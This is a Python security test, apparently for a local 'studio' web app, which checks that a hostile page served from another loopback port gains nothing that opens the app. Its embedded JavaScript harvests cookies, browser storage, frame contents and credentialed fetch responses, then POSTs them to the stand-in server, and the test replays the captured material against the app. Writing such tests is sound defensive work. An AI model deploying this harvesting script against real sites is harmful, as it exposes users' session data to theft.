"""Another program on this machine, visited in the same browser, gets nothing that opens the studio.

Cookies are sent to every port of a host. So a second server listens on another port of the loopback address,
is visited in every way that a page and a person have, and writes down all that the browser sends. Whatever it
got is then tried on the studio, and so is every word of it.
"""

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import NamedTuple

import pytest

PEOPLE = "age,town\n" + "".join(f"{20 + i},Bonn\n" for i in range(40))
INSIDE = (
    "/",
    "/open",
    "/rows/table",
    "/download/1/recipe.toml",
    "/_nicegui_ws/socket.io/?EIO=4&transport=polling",
)
WORD = re.compile(r"[\w.~+=%-]{6,}")

# What the page of the other server does: it asks the studio for things, and tells its server all it can see.
PAGE = """<!doctype html><title>Another program</title>
<p>Another program</p>
<img src="http://127.0.0.1:PORT/open"><iframe src="http://127.0.0.1:PORT/open"></iframe>
<script src="http://127.0.0.1:PORT/rows/table"></script>
<link rel="stylesheet" href="http://127.0.0.1:PORT/open">
<form id="form" method="post" action="http://127.0.0.1:PORT/open"><input name="a" value="b"></form>
<a id="link" href="http://127.0.0.1:PORT/open">to the studio</a>
<script>
(async () => {
  const seen = [document.cookie, document.referrer, window.name, location.href, history.length];
  const look = (what) => { try { seen.push(String(what())); } catch (error) { seen.push(String(error)); } };
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  for (const how of [{mode: "no-cors"}, {mode: "cors"}])
    for (const path of ["/", "/open", "/rows/table"])
      try {
        const answer = await fetch("http://127.0.0.1:PORT" + path, {credentials: "include", ...how});
        seen.push(answer.url, answer.type, await answer.text());
      } catch (error) { seen.push(String(error)); }
  const socket = new WebSocket("ws://127.0.0.1:PORT/_nicegui_ws/socket.io/?EIO=4&transport=websocket");
  socket.onopen = () => seen.push("a WebSocket was opened");
  await wait(500);
  look(() => frames[0].location.href);
  look(() => frames[0].document.body.textContent);
  look(() => window.opener && window.opener.location.href);
  look(() => JSON.stringify({...localStorage, ...sessionStorage}));
  look(() => performance.getEntries().map((entry) => entry.name).join(" "));
  await fetch("/told", {method: "POST", body: seen.join("\\n"), credentials: "include"});
  document.title = "told";
})();
</script>"""

# What a page of the studio might do, if a script of somebody else ran in it or a link led elsewhere.
LEAVE = """
const other = arguments[0];
new Image().src = other + "/image-from-the-studio";
fetch(other + "/fetch-from-the-studio", {credentials: "include", mode: "no-cors"}).catch(() => 0);
navigator.sendBeacon(other + "/beacon-from-the-studio", "x");
try { new WebSocket(other.replace("http", "ws") + "/socket-from-the-studio"); } catch (error) {}
const add = (tag, how) => document.body.append(Object.assign(document.createElement(tag), how));
for (const [rel, path] of [["prefetch", "/prefetch"], ["preconnect", "/"], ["icon", "/icon"]])
  add("link", {rel, href: other + path});
add("iframe", {src: other + "/frame-from-the-studio"});
add("a", {href: other + "/from-a-link", id: "leave"});
"""


class Request(NamedTuple):
    """What a browser sent."""

    line: str
    headers: tuple[tuple[str, str], ...]
    body: str

    def replayed(self) -> dict[str, str]:
        """The headers that a program would send again: not those that say where it is."""
        own = re.compile("host|origin|connection|upgrade|content-length|accept-encoding|sec-.*")
        return {name: value for name, value in self.headers if not own.fullmatch(name.lower())}

    def words(self) -> set[str]:
        """All in it that could be a secret, or hold one."""
        texts = (self.line, self.body, *(value for _, value in self.headers))
        return {
            word for text in texts for word in (text, *WORD.findall(text), *re.split(r"[/?&=;,\s]+", text))
        }


class Other(ThreadingHTTPServer):
    """A program that listens on another port, and writes down what it gets."""

    def __init__(self, studio: int) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.got: list[Request] = []
        self.page = PAGE.replace("PORT", str(studio)).encode()

    def url(self, host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.server_address[1]}"

    def paths(self) -> set[str]:
        return {request.line.split(" ")[1] for request in self.got}


class Answer(BaseHTTPRequestHandler):
    server: Other

    def do_GET(self) -> None:
        self._note()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(self.server.page)

    def do_POST(self) -> None:
        self.do_GET()

    def _note(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
        self.server.got.append(Request(self.requestline, tuple(self.headers.items()), body))

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def other(server) -> Iterator[Other]:
    made = Other(server.port)
    thread = threading.Thread(target=made.serve_forever)
    thread.start()
    yield made
    made.shutdown()
    made.server_close()
    thread.join()


def visit(hand, other: Other) -> None:
    """Go to the other program and back, in every way there is."""

    def told() -> None:
        hand.until(lambda: hand.driver.title == "told", "what the other page saw")

    def at_the_studio() -> None:
        hand.open("open")
        hand.sees("40 rows, 2 columns")

    at_the_studio()
    hand.driver.execute_script(LEAVE, other.url())
    hand.driver.execute_script("document.getElementById('leave').click()")
    told()
    hand.driver.back()
    hand.sees("40 rows, 2 columns")
    hand.driver.execute_script("location.href = arguments[0]", other.url() + "/from-a-script")
    told()
    for way in ("link", "form"):  # back to the studio by the page itself
        hand.driver.get(f"{other.url()}/{way}")
        told()
        press = "document.getElementById(arguments[0])[arguments[0] === 'form' ? 'submit' : 'click']()"
        hand.driver.execute_script(press, way)
        hand.until(lambda: f":{hand.server.port}/" in hand.driver.current_url, "the studio's answer")
    hand.driver.get(other.url("localhost") + "/by-another-name")
    told()
    at_the_studio()
    first = hand.driver.current_window_handle
    hand.driver.execute_script("window.open(arguments[0])", other.url() + "/from-a-new-tab")
    hand.until(lambda: len(hand.driver.window_handles) == 2, "another tab")
    hand.driver.switch_to.window(hand.driver.window_handles[-1])
    told()
    hand.driver.close()
    hand.driver.switch_to.window(first)


def refused(server, path: str, method: str = "GET", **headers: str) -> bool:
    return bool(server.ask(path, method, **headers)[0] == 403)


def test_what_another_port_receives_opens_nothing(hand, other):
    visit(hand, other)
    server = hand.server
    visits = {
        "/from-a-link",
        "/from-a-script",
        "/link",
        "/form",
        "/by-another-name",
        "/from-a-new-tab",
        "/told",
    }
    assert visits <= other.paths()
    for request in other.got:
        for path in (*INSIDE, request.line.split(" ")[1]):
            assert refused(server, path, **request.replayed()), (path, request)
        assert server.shake("", **request.replayed()) == 403, request
    for word in set().union(*(request.words() for request in other.got)):
        if word.isascii() and word.isprintable() and not re.search(r"[\s#]", word):
            for path in (f"/{word}", f"/{word}/open", f"/open?token={word}", f"/?token={word}"):
                assert refused(server, path), path
            assert refused(server, "/open", Cookie=f"shoal-studio-{server.port}={word}"), word
            assert server.shake(f"/{word}") == 403, word
    assert server.key not in str(other.got)
    # The same questions are answered where the address that was printed is known.
    assert server.ask(server.base + "open")[0] == 200
    assert server.shake(server.base.rstrip("/")) == 101
